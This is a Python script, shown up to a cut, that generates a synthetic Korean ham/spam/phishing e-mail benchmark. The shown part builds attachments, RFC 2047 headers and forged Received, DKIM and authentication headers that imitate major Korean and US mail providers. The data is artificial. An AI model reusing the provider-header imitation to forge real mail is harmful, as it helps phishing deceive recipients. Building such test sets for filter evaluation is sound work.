#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
Synthetic Korean e-mail measurement set (ham / spam / phish).

Writes 200 RFC 5322 messages (CRLF line endings) next to this file:
    ham/0001.eml .. ham/0120.eml
    spam/0001.eml .. spam/0040.eml
    phish/0001.eml .. phish/0040.eml
plus MANIFEST.tsv and README.md.

Standard library only.  Every random choice comes from random.Random seeded
with a fixed string derived from the label and index, and all dates are
hard-coded 2026 calendar values, so the output is byte-for-byte reproducible.
All IP addresses are from the documentation ranges 192.0.2.0/24,
198.51.100.0/24 and 203.0.113.0/24.  Every malicious domain, URL and address
in spam/phish is invented.
"""

import base64
import html as htmlmod
import os
import quopri
import random
import re
import shutil
import struct
import sys
import urllib.parse
import zipfile
import zlib
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime

OUT = os.path.dirname(os.path.abspath(__file__))
KST = timezone(timedelta(hours=9))
UTC = timezone.utc

MESSAGES = {'ham': [], 'spam': [], 'phish': []}


def M(label, desc, **kw):
    """Register one message specification."""
    kw['desc'] = desc
    MESSAGES[label].append(kw)


# ---------------------------------------------------------------------------
# small random helpers
# ---------------------------------------------------------------------------
HEX = '0123456789abcdef'
ALNUM = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'


def rhex(r, n):
    return ''.join(r.choice(HEX) for _ in range(n))


def ral(r, n, chars=ALNUM):
    return ''.join(r.choice(chars) for _ in range(n))


def rbytes(r, n):
    return bytes(r.getrandbits(8) for _ in range(n))


def rb64(r, n):
    return base64.b64encode(rbytes(r, n)).decode()


def ruuid(r, upper=False):
    h = rhex(r, 32)
    u = '%s-%s-4%s-%s%s-%s' % (h[:8], h[8:12], h[13:16], r.choice('89ab'), h[17:20], h[20:32])
    return u.upper() if upper else u


def doc_ip(r, net=None):
    nets = ['192.0.2', '198.51.100', '203.0.113']
    return '%s.%d' % (net or r.choice(nets), r.randint(2, 250))


# ---------------------------------------------------------------------------
# charsets and RFC 2047
# ---------------------------------------------------------------------------
def py_codec(label):
    l = label.lower()
    if l in ('utf-8', 'utf8'):
        return 'utf-8'
    if l in ('euc-kr', 'euc_kr', 'ks_c_5601-1987'):
        return 'euc-kr'
    if l == 'cp949':
        return 'cp949'
    raise ValueError(label)


def encode_body_text(s, label):
    return s.encode(py_codec(label))


def can_encode(s, label):
    try:
        s.encode(py_codec(label))
        return True
    except UnicodeEncodeError:
        return False


def qword(b):
    out = []
    for x in b:
        c = chr(x)
        if x == 0x20:
            out.append('_')
        elif x < 128 and (c.isalnum() or c in '!*+-/'):
            out.append(c)
        else:
            out.append('=%02X' % x)
    return ''.join(out)


def encoded_words(text, label, mode, maxlen=75):
    codec = py_codec(label)

    def enc(s):
        b = s.encode(codec)
        p = base64.b64encode(b).decode() if mode == 'B' else qword(b)
        return '=?%s?%s?%s?=' % (label, mode, p)

    words, cur = [], ''
    for ch in text:
        if cur and len(enc(cur + ch)) > maxlen:
            words.append(enc(cur))
            cur = ch
        else:
            cur += ch
    if cur:
        words.append(enc(cur))
    return words


def is_ascii(s):
    return all(ord(c) < 128 for c in s)


def hval(text, label, mode):
    """Header value: ASCII as is, otherwise RFC 2047 (or raw UTF-8)."""
    if is_ascii(text):
        return text
    if mode == 'raw':
        return text
    return '\n '.join(encoded_words(text, label, mode))


def fmt_addr(name, addr, label, mode, quote_ascii=True):
    if not name:
        return '<%s>' % addr if quote_ascii else addr
    if is_ascii(name):
        if re.search(r'[()<>\[\]:;@\\,."]', name) or quote_ascii:
            return '"%s" <%s>' % (name.replace('"', ''), addr)
        return '%s <%s>' % (name, addr)
    if mode == 'raw':
        return '"%s" <%s>' % (name, addr)
    return '%s <%s>' % (' '.join(encoded_words(name, label, mode)), addr)


# ---------------------------------------------------------------------------
# body text -> html helpers
# ---------------------------------------------------------------------------
def esc(s):
    return htmlmod.escape(s, quote=False)


def linkify(s):
    return re.sub(r'(https?://[^\s<>"]+)', r'<a href="\1">\1</a>', s)


def text2html(text, style):
    lines = text.split('\n')
    if style == 'gmail':
        body = []
        for ln in lines:
            body.append('<div>%s</div>' % (linkify(esc(ln)) if ln.strip() else '<br>'))
        return '<div dir="ltr">' + '\n'.join(body) + '</div>\n'
    if style == 'naver':
        body = ['<p>%s</p>' % (linkify(esc(ln)) if ln.strip() else '&nbsp;') for ln in lines]
        return ('<div style="font-family: \'나눔고딕\', NanumGothic, sans-serif; font-size: 10pt; '
                'color: #000000; line-height: 1.5;">\n' + '\n'.join(body) +
                '\n</div>\n<img src="https://mail.naver.com/readReceipt/notify/?img=%s.gif" '
                'style="display:none" width="0" height="0" border="0" />\n')
    if style == 'daum':
        return ('<div><p style="margin:0;font-family:\'맑은 고딕\';font-size:10pt;">' +
                '<br>\n'.join(linkify(esc(ln)) for ln in lines) + '</p></div>\n')
    if style == 'outlook':
        paras = []
        for ln in lines:
            if ln.strip():
                paras.append('<p class="MsoNormal"><span style="font-family:\'맑은 고딕\'">%s</span></p>' % linkify(esc(ln)))
            else:
                paras.append('<p class="MsoNormal"><span lang="EN-US">&nbsp;</span></p>')
        return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
                'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
                'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
                '<meta http-equiv="Content-Type" content="text/html; charset={CHARSET}">\n'
                '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
                '<style><!--\n/* Font Definitions */\n@font-face\n\t{font-family:"맑은 고딕";\n\tpanose-1:2 11 5 3 2 0 0 2 0 4;}\n'
                'p.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;\n\ttext-align:justify;\n\ttext-justify:inter-ideograph;\n'
                '\tfont-size:10.0pt;\n\tfont-family:"맑은 고딕";}\n--></style>\n</head>\n'
                '<body lang="KO" link="#0563C1" vlink="#954F72" style="word-wrap:break-word;text-justify-trim:punctuation">\n'
                '<div class="WordSection1">\n' + '\n'.join(paras) + '\n</div>\n</body>\n</html>\n')
    # generic
    return ('<html><head><meta charset="{CHARSET}"></head><body>\n' +
            '<br>\n'.join(linkify(esc(ln)) for ln in lines) + '\n</body></html>\n')


def html2text(h):
    h = re.sub(r'(?is)<(style|script|head)[^>]*>.*?</\1>', '', h)
    h = re.sub(r'(?i)<br\s*/?>', '\n', h)
    h = re.sub(r'(?i)</(p|div|tr|li|h[1-6]|table)>', '\n', h)
    h = re.sub(r'(?i)<a [^>]*href="([^"]+)"[^>]*>(.*?)</a>', r'\2 ( \1 )', h)
    h = re.sub(r'<[^>]+>', '', h)
    h = htmlmod.unescape(h)
    lines = [ln.strip() for ln in h.split('\n')]
    out, blank = [], 0
    for ln in lines:
        if not ln:
            blank += 1
            if blank > 1:
                continue
        else:
            blank = 0
        out.append(ln)
    return '\n'.join(out).strip() + '\n'


# ---------------------------------------------------------------------------
# attachment content builders (deterministic)
# ---------------------------------------------------------------------------
FIXED_ZIP_TIME = (2026, 11, 2, 10, 15, 30)


def make_png(w, h, painter):
    raw = bytearray()
    for y in range(h):
        raw.append(0)
        for x in range(w):
            raw.extend(painter(x, y))

    def chunk(t, d):
        c = struct.pack('>I', len(d)) + t + d
        return c + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)
    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0)) +
            chunk(b'IDAT', zlib.compress(bytes(raw), 9)) + chunk(b'IEND', b''))


def png_photo(seed, w=160, h=120):
    r = random.Random('photo-' + seed)
    c1 = [r.randint(40, 220) for _ in range(3)]
    c2 = [r.randint(40, 220) for _ in range(3)]
    noise = [r.randint(-12, 12) for _ in range(997)]

    def p(x, y):
        t = (x + y) / float(w + h)
        n = noise[(x * 31 + y * 17) % 997]
        return bytes(max(0, min(255, int(c1[i] * (1 - t) + c2[i] * t + n))) for i in range(3))
    return make_png(w, h, p)


def png_banner(seed, w=320, h=120, bg=(20, 20, 20), fg=(255, 204, 0)):
    """Banner with blocky 'glyph' shapes - an image with little machine-readable text."""
    r = random.Random('banner-' + seed)
    blocks = [(r.randint(10, w - 40), r.randint(10, h - 30), r.randint(8, 30), r.randint(8, 20)) for _ in range(24)]

    def p(x, y):
        for bx, by, bw, bh in blocks:
            if bx <= x < bx + bw and by <= y < by + bh:
                return bytes(fg)
        if y < 6 or y > h - 7:
            return bytes(fg)
        return bytes(bg)
    return make_png(w, h, p)


def png_qr(seed, modules=29, scale=4):
    r = random.Random('qr-' + seed)
    grid = [[r.random() < 0.5 for _ in range(modules)] for _ in range(modules)]

    def finder(ox, oy):
        for y in range(7):
            for x in range(7):
                on = x in (0, 6) or y in (0, 6) or (2 <= x <= 4 and 2 <= y <= 4)
                grid[oy + y][ox + x] = on
    finder(0, 0)
    finder(modules - 7, 0)
    finder(0, modules - 7)
    q = 4
    size = (modules + 2 * q) * scale

    def p(x, y):
        mx, my = x // scale - q, y // scale - q
        if 0 <= mx < modules and 0 <= my < modules and grid[my][mx]:
            return b'\x00\x00\x00'
        return b'\xff\xff\xff'
    return make_png(size, size, p)


def make_gif_1x1():
    return base64.b64decode('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==')


def make_pdf(lines, title='Document'):
    def pdfstr(s):
        return s.replace('\\', '\\\\').replace('(', '\\(').replace(')', '\\)')
    content = ['BT', '/F1 11 Tf', '50 790 Td', '14 TL']
    for ln in lines:
        content.append('(%s) Tj T*' % pdfstr(ln))
    content.append('ET')
    stream = '\n'.join(content).encode('latin-1')
    objs = [
        b'<< /Type /Catalog /Pages 2 0 R >>',
        b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
        b'/Resources << /Font << /F1 5 0 R >> >> >>',
        b'<< /Length ' + str(len(stream)).encode() + b' >>\nstream\n' + stream + b'\nendstream',
        b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
        ('<< /Title (%s) /Producer (Hancom PDF 1.3.0.542) /CreationDate (D:20261102101530+09\'00\') >>'
         % pdfstr(title)).encode('latin-1'),
    ]
    out = bytearray(b'%PDF-1.4\n%\xe2\xe3\xcf\xd3\n')
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b'%d 0 obj\n' % i + o + b'\nendobj\n'
    xref = len(out)
    out += b'xref\n0 %d\n0000000000 65535 f \n' % (len(objs) + 1)
    for o in offs:
        out += b'%010d 00000 n \n' % o
    out += b'trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n' % (len(objs) + 1, xref)
    return bytes(out)


def make_zip(files):
    bio = io_bytes()
    with zipfile.ZipFile(bio, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=FIXED_ZIP_TIME)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return bio.getvalue()


def io_bytes():
    import io
    return io.BytesIO()


def xml_esc(s):
    return htmlmod.escape(str(s), quote=True)


def make_xlsx(rows, sheet='Sheet1'):
    def col(i):
        s = ''
        i += 1
        while i:
            i, rem = divmod(i - 1, 26)
            s = chr(65 + rem) + s
        return s
    xrows = []
    for ri, row in enumerate(rows, 1):
        cells = []
        for ci, v in enumerate(row):
            ref = '%s%d' % (col(ci), ri)
            if isinstance(v, (int, float)):
                cells.append('<c r="%s"><v>%s</v></c>' % (ref, v))
            else:
                cells.append('<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref, xml_esc(v)))
        xrows.append('<row r="%d">%s</row>' % (ri, ''.join(cells)))
    sheet_xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                 '<sheetData>%s</sheetData></worksheet>' % ''.join(xrows))
    files = [
        ('[Content_Types].xml',
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Default Extension="xml" ContentType="application/xml"/>'
         '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
         '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
         '</Types>'),
        ('_rels/.rels',
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
         '</Relationships>'),
        ('xl/workbook.xml',
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
         '<sheets><sheet name="%s" sheetId="1" r:id="rId1"/></sheets></workbook>' % xml_esc(sheet)),
        ('xl/_rels/workbook.xml.rels',
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
         '</Relationships>'),
        ('xl/worksheets/sheet1.xml', sheet_xml),
    ]
    return make_zip([(n, d.encode('utf-8')) for n, d in files])


def make_hwpx(paras):
    sec = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<hs:sec xmlns:hs="http://www.hancom.co.kr/hwpml/2011/section" '
           'xmlns:hp="http://www.hancom.co.kr/hwpml/2011/paragraph">' +
           ''.join('<hp:p><hp:run><hp:t>%s</hp:t></hp:run></hp:p>' % xml_esc(p) for p in paras) +
           '</hs:sec>')
    files = [
        ('mimetype', b'application/hwp+zip'),
        ('version.xml', b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                        b'<hv:HCFVersion xmlns:hv="http://www.hancom.co.kr/hwpml/2011/version" '
                        b'targetApplication="WORDPROCESSOR" major="5" minor="1" micro="1" buildNumber="0"/>'),
        ('Contents/content.hpf', b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                                 b'<opf:package xmlns:opf="http://www.idpf.org/2007/opf/"><opf:manifest>'
                                 b'<opf:item id="section0" href="Contents/section0.xml" media-type="application/xml"/>'
                                 b'</opf:manifest></opf:package>'),
        ('Contents/section0.xml', sec.encode('utf-8')),
        ('Preview/PrvText.txt', '\r\n'.join(paras).encode('utf-16-le')),
    ]
    bio = io_bytes()
    with zipfile.ZipFile(bio, 'w') as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=FIXED_ZIP_TIME)
            zi.compress_type = zipfile.ZIP_STORED if name == 'mimetype' else zipfile.ZIP_DEFLATED
            z.writestr(zi, data)
    return bio.getvalue()


def make_hwp(paras, seed='x'):
    """HWP 5.0-like compound file stub: OLE header + FileHeader signature + preview text."""
    r = random.Random('hwp-' + seed)
    hdr = bytearray(b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\x00' * 16 + b'\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00')
    hdr += b'\x00' * (512 - len(hdr))
    sig = b'HWP Document File' + b'\x00' * 15 + b'\x00\x00\x05\x05' + b'\x01\x00\x00\x00'
    sig += b'\x00' * (256 - len(sig))
    prv = '\r\n'.join(paras).encode('utf-16-le')
    body = zlib.compress(prv, 9)
    tail = rbytes(r, 256)
    blob = bytes(hdr) + sig + body + tail
    pad = (-len(blob)) % 512
    return blob + b'\x00' * pad


def make_ics(uid, summary, start, end, organizer, attendees, location, desc):
    def f(dt):
        return dt.astimezone(UTC).strftime('%Y%m%dT%H%M%SZ')
    lines = ['BEGIN:VCALENDAR', 'PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN', 'VERSION:2.0',
             'METHOD:REQUEST', 'BEGIN:VEVENT',
             'ORGANIZER;CN=%s:mailto:%s' % organizer]
    for cn, a in attendees:
        lines.append('ATTENDEE;CN=%s;ROLE=REQ-PARTICIPANT;RSVP=TRUE:mailto:%s' % (cn, a))
    lines += ['DESCRIPTION:%s' % desc.replace('\n', '\\n'), 'UID:%s' % uid, 'SUMMARY:%s' % summary,
              'DTSTART:%s' % f(start), 'DTEND:%s' % f(end), 'DTSTAMP:%s' % f(start - timedelta(days=2)),
              'LOCATION:%s' % location, 'SEQUENCE:0', 'STATUS:CONFIRMED', 'END:VEVENT', 'END:VCALENDAR']
    return ('\r\n'.join(lines) + '\r\n').encode('utf-8')


def att(name, data, ctype, style=None, disp='attachment', cid=None):
    return dict(name=name, data=data, ctype=ctype, style=style, disp=disp, cid=cid)


def PDF(name, lines, **k):
    return att(name, make_pdf(lines, title=k.pop('title', 'Document')), 'application/pdf', **k)


def XLSX(name, rows, **k):
    return att(name, make_xlsx(rows), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', **k)


def HWP(name, paras, **k):
    if name.lower().endswith('.hwpx'):
        return att(name, make_hwpx(paras), 'application/haansofthwpx', **k)
    return att(name, make_hwp(paras, seed=name), k.pop('ctype', 'application/x-hwp'), **k)


def PNG(name, data, **k):
    return att(name, data, 'image/png', **k)


def ZIP(name, files, **k):
    return att(name, make_zip(files), k.pop('ctype', 'application/x-zip-compressed'), **k)


def HTMLATT(name, text, **k):
    return att(name, text.encode('utf-8'), k.pop('ctype', 'text/html; charset="utf-8"'), **k)


# ---------------------------------------------------------------------------
# dates
# ---------------------------------------------------------------------------
def rfcdate(dt, pad=True, suffix=''):
    s = format_datetime(dt)
    if not pad:
        s = re.sub(r', 0(\d) ', r', \1 ', s)
    return s + suffix


def pst(dt):
    # US Pacific: DST ends 1 Nov 2026
    off = -8 if dt.astimezone(UTC) >= datetime(2026, 11, 1, 9, 0, tzinfo=UTC) else -7
    return dt.astimezone(timezone(timedelta(hours=off)))


# ---------------------------------------------------------------------------
# receiving side (recipient organisations - all invented)
# ---------------------------------------------------------------------------
RCV = {
    'hanbit-tech.example': ('mx1.hanbit-tech.example', 'mail.hanbit-tech.example', 'postfix', True),
    'seoul-clinic.test': ('mx.seoul-clinic.test', 'mbox.seoul-clinic.test', 'exim', True),
    'daehan-law.example': ('mx01.daehan-law.example', 'store.daehan-law.example', 'sendmail', False),
    'mirae-edu.test': ('inbound.mirae-edu.test', 'imap.mirae-edu.test', 'postfix', True),
    'jinju-foods.example': ('mail.jinju-foods.example', 'mail.jinju-foods.example', 'sendmail', False),
    'hanul-design.test': ('mx.hanul-design.test', 'box.hanul-design.test', 'postfix', True),
    'haneul-mail.test': ('mx3.haneul-mail.test', 'mstore12.haneul-mail.test', 'exim', True),
    'sejong-tax.example': ('mx.sejong-tax.example', 'mail.sejong-tax.example', 'postfix', False),
    'bitgaram-church.test': ('mx.bitgaram-church.test', 'mx.bitgaram-church.test', 'exim', False),
}


def rcv_side(r, rcpt, env_from, out_host, out_ip, t0, fdom, dkims, auth):
    dom = rcpt.split('@')[1].lower()
    mx, store, kind, ar = RCV.get(dom, ('mx.' + dom, 'mail.' + dom, 'postfix', False))
    mx_ip = '192.0.2.%d' % (10 + (sum(map(ord, dom)) % 40))
    t1 = t0 + timedelta(seconds=r.randint(1, 4))
    t2 = t1 + timedelta(seconds=r.randint(0, 2))
    hdrs = [('Return-Path', '<%s>' % env_from)]
    if kind == 'exim':
        hdrs.append(('Envelope-to', rcpt))
        hdrs.append(('Delivery-date', rfcdate(t2)))
    else:
        hdrs.append(('Delivered-To', rcpt))
    if store != mx:
        hdrs.append(('Received', 'from %s (%s [%s])\n\tby %s with LMTP\n\tid %s\n\t(envelope-from <%s>)\n\tfor <%s>; %s'
                     % (mx, mx, mx_ip, store, ral(r, 22), env_from, rcpt, rfcdate(t2))))
    if kind == 'postfix':
        qid = '4' + ral(r, 12, 'BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789')
        rv = ('from %s (%s [%s])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n'
              '\t key-exchange X25519 server-signature RSA-PSS (2048 bits))\n\t(No client certificate requested)\n'
              '\tby %s (Postfix) with ESMTPS id %s\n\tfor <%s>; %s' % (out_host, out_host, out_ip, mx, qid, rcpt, rfcdate(t1)))
    elif kind == 'exim':
        rv = ('from %s ([%s])\n\tby %s with esmtps  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.97.1)\n'
              '\t(envelope-from <%s>)\n\tid 1t%s-00%s-%s\n\tfor %s; %s'
              % (out_host, out_ip, mx, env_from, ral(r, 4), ral(r, 4), ral(r, 2), rcpt, rfcdate(t1)))
    else:
        rv = ('from %s (%s [%s])\n\tby %s (8.17.1/8.17.1) with ESMTPS id 5A%s\n\t(version=TLSv1.3 cipher=TLS_AES_256_GCM_SHA384 bits=256 verify=NOT)\n'
              '\tfor <%s>; %s' % (out_host, out_host, out_ip, mx, ral(r, 12).upper(), rcpt, rfcdate(t1)))
    hdrs.append(('Received', rv))
    if ar:
        a = dict(spf='pass', dkim=None, dmarc=None)
        a.update(auth or {})
        envdom = env_from.split('@')[-1]
        if a['dkim'] is None:
            a['dkim'] = 'pass' if dkims else 'none'
        if a['dmarc'] is None:
            aligned = any(fdom.endswith(d) for d, _ in dkims) or fdom == envdom or envdom.endswith('.' + fdom)
            a['dmarc'] = 'pass' if (aligned and (a['dkim'] == 'pass' or a['spf'] == 'pass')) else 'none'
        parts = [mx]
        if dkims and a['dkim'] == 'pass':
            for d, sel in dkims:
                parts.append('dkim=pass (2048-bit key) header.d=%s header.i=@%s header.s=%s header.b=%s' % (d, d, sel, ral(r, 8)))
        elif a['dkim'] != 'none':
            parts.append('dkim=%s header.d=%s' % (a['dkim'], dkims[0][0] if dkims else fdom))
        else:
            parts.append('dkim=none')
        if a['spf'] == 'pass':
            parts.append('spf=pass (%s: domain of %s designates %s as permitted sender) smtp.mailfrom=%s' % (mx, env_from, out_ip, env_from))
        else:
            parts.append('spf=%s (%s: %s is neither permitted nor denied by domain of %s) smtp.mailfrom=%s' % (a['spf'], mx, out_ip, env_from, env_from))
        dm = {'pass': 'dmarc=pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from=%s',
              'none': 'dmarc=none (p=NONE sp=NONE dis=NONE) header.from=%s',
              'fail': 'dmarc=fail (p=NONE sp=NONE dis=NONE) header.from=%s'}[a['dmarc']] % fdom
        parts.append(dm)
        hdrs.append(('Authentication-Results', ';\n\t'.join(parts)))
    return hdrs


# ---------------------------------------------------------------------------
# sending side: provider / client fingerprints
# ---------------------------------------------------------------------------
def out_for_domain(r, fd):
    if fd == 'naver.com':
        return 'cvsmtppost%03d.nm.naver.com' % r.randint(1, 40)
    if fd in ('daum.net', 'hanmail.net'):
        return 'mail-smtp-out%d.daum.net' % r.randint(1, 9)
    if fd == 'gmail.com':
        return 'mail-%s-f%d.google.com' % (r.choice(['pj1', 'pl1', 'ed1', 'lj1', 'qk1', 'oi1']), r.randint(41, 199))
    if fd == 'kakao.com':
        return 'mx-out%02d.kakao.com' % r.randint(1, 20)
    if fd == 'icloud.com':
        return 'st43p00im-zteg%05d.me.com' % r.randint(10000, 99999)
    return 'smtp.' + fd


def sender_side(s, r, dt, rcpt):
    p = s['prov']
    fd = s['frm'][1].split('@')[1].lower()
    client_ip = doc_ip(r, '198.51.100')
    out_ip = doc_ip(r, '203.0.113')
    d = dict(hops=[], out_host=None, out_ip=out_ip, msgid=None, client=[], pre=[], dkim=[],
             fmt='plain', style='generic', cs='UTF-8', cte='base64', cte_html=None, qcs=True,
             boundary=lambda: '----=_Part_%d_%d.%d' % (r.randint(100000, 999999), r.randint(100000000, 999999999),
                                                     r.randint(1700000000000, 1799999999999)),
             he='B', env=s['frm'][1], order='std', astyle='2047', mime='1.0', date_suffix='', preamble=None,
             pad=True)
    T = lambda sec: rfcdate(dt + timedelta(seconds=sec))

    if p == 'naver':
        web = 'cweb%03d.nm.nfra.io' % r.randint(1, 40)
        out = out_for_domain(r, 'naver.com')
        d['hops'] = ['from %s (%s [%s])\n\tby %s with ESMTPA id %s\n\tfor <%s>;\n\t%s'
                     % (web, web, doc_ip(r, '192.0.2'), out, ral(r, 22), rcpt, T(0))]
        d.update(out_host=out, msgid='<%s@%s>' % (rhex(r, 40), web), fmt='html', style='naver', cs='UTF-8',
                 cte='base64', astyle='2047', dkim=[('naver.com', 's20171208')])
        d['pre'] = [('X-Naver-CIP', client_ip)]
    elif p == 'daum':
        out = out_for_domain(r, 'daum.net')
        d['hops'] = ['from [%s] (HELO webmail%02d.daum.net)\n\tby %s with ESMTPA id %s;\n\t%s'
                     % (client_ip, r.randint(1, 30), out, ral(r, 16), T(0))]
        d.update(out_host=out, msgid='<%s.%s@%s>' % (dt.strftime('%Y%m%d%H%M%S'), ral(r, 10), fd),
                 fmt='alt', style='daum', cs=s.get('cs', 'euc-kr'), cte='base64', astyle='2047',
                 dkim=[(fd, '20200717')], date_suffix=' (KST)',
                 boundary=lambda: '=-=-=-%s' % ral(r, 28))
        d['client'] = [('X-Mailer', 'Daum Web Mailer v.1.4.7')]
    elif p == 'kakao':
        out = out_for_domain(r, 'kakao.com')
        d['hops'] = ['from [%s] (unknown [%s])\n\tby %s (Postfix) with ESMTPSA id %s;\n\t%s'
                     % (client_ip, client_ip, out, ral(r, 11).upper(), T(0))]
        d.update(out_host=out, msgid='<%s@kakao.com>' % ruuid(r), fmt='html', style='generic', cs='UTF-8',
                 cte='quoted-printable', dkim=[('kakao.com', 'kakao2024')])
    elif p == 'gmail':
        out = out_for_domain(r, 'gmail.com')
        d['hops'] = ['by %s with SMTP id %s-%sso%d%s.%d\n\tfor <%s>; %s'
                     % (out, rhex(r, 12), rhex(r, 9), r.randint(1000000, 9999999), ral(r, 3).lower(), r.randint(1, 3),
                        rcpt, rfcdate(pst(dt)) + ' (PST)' if pst(dt).utcoffset().total_seconds() == -28800 else rfcdate(pst(dt)) + ' (PDT)')]
        d['pre'] = [('X-Google-DKIM-Signature', 'v=1; a=rsa-sha256; c=relaxed/relaxed;\n\td=1e100.net; s=20230601; t=%d; x=%d;\n\th=to:subject:message-id:date:from:mime-version:x-gm-message-state\n\t:from:to:cc:subject:date:message-id:reply-to;\n\tbh=%s;\n\tb=%s'
                     % (int(dt.timestamp()), int(dt.timestamp()) + 604800, rb64(r, 32), rb64(r, 96))),
                    ('X-Gm-Message-State', 'AOJu0Y' + ral(r, 62) + '=='),
                    ('X-Google-Smtp-Source', 'AGHT+I' + ral(r, 62) + '=='),
                    ('X-Received', 'by %s with SMTP id %s-%s.%d.%d;\n\t%s'
                     % ('mail-%s.google.com' % ral(r, 6).lower(), rhex(r, 12), rhex(r, 9), r.randint(1, 9), r.randint(1000000000000, 9999999999999), rfcdate(pst(dt))))]
        d.update(out_host=out, msgid='<CA%s@mail.gmail.com>' % (r.choice(['+', 'J', 'K', 'F', 'M', 'A', 'L']) + ral(r, 40, ALNUM + '+_-') + r.choice(['', '=', '=w', 'Q'])),
                 fmt='alt', style='gmail', cs='UTF-8', cte='base64', cte_html='quoted-printable', astyle='gmail',
                 dkim=[('gmail.com', '20230601')], order='gmail',
                 boundary=lambda: '000000000000' + rhex(r, 16), env=s['frm'][1])
    elif p in ('iphone', 'applemail'):
        out = out_for_domain(r, fd)
        d['hops'] = ['from smtpclient.apple ([%s])\n\tby %s with ESMTPSA id %s\n\tfor <%s>;\n\t%s'
                     % (client_ip, out, ral(r, 20), rcpt, T(0))]
        dk = {'gmail.com': [('gmail.com', '20230601')], 'naver.com': [('naver.com', 's20171208')],
              'icloud.com': [('icloud.com', '1a1hai')]}.get(fd, [])
        d.update(out_host=out, msgid='<%s@%s>' % (ruuid(r, True), fd), fmt='plain', cs='utf-8', qcs=False,
                 cte='quoted-printable', astyle='2231', dkim=dk,
                 boundary=lambda: 'Apple-Mail-%s' % ruuid(r, True))
        if p == 'iphone':
            d['client'] = [('X-Mailer', 'iPhone Mail (23B85)')]
            d['mime'] = '1.0 (1.0)'
        else:
            d['client'] = [('X-Mailer', 'Apple Mail (2.3826.600.51.1.1)')]
            d['mime'] = '1.0 (Mac OS X Mail 16.0 \\(3826.600.51.1.1\\))'
            d['boundary'] = lambda: 'Apple-Mail=_%s' % ruuid(r, True)
    elif p == 'outlook':
        pc = 'DESKTOP-%s' % ral(r, 7).upper()
        out = s.get('out_host') or 'smtp.' + fd
        d['hops'] = ['from %s (unknown [%s])\n\tby %s (Postfix) with ESMTPSA id %s\n\tfor <%s>; %s'
                     % (pc, client_ip, out, ral(r, 10).upper(), rcpt, T(0))]
        a, b = r.randint(0, 0xff), r.randint(0, 0xffff)
        d.update(out_host=out, msgid='<0000%02x01db%04x$%s$%s$@%s>' % (a, b, rhex(r, 8), rhex(r, 8), fd),
                 fmt='alt', style='outlook', cs='ks_c_5601-1987', cte='base64', astyle='2047',
                 dkim=[(fd, 'mail')] if s.get('dkim', True) else [], order='outlook',
                 boundary=lambda: '----=_NextPart_000_%04X_01DB%04X.%08X' % (r.randint(0, 0xffff), b, r.randint(0, 0xffffffff)),
                 preamble='This is a multipart message in MIME format.')
        d['client'] = [('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', 'AQHb' + ral(r, 26) + '=='),
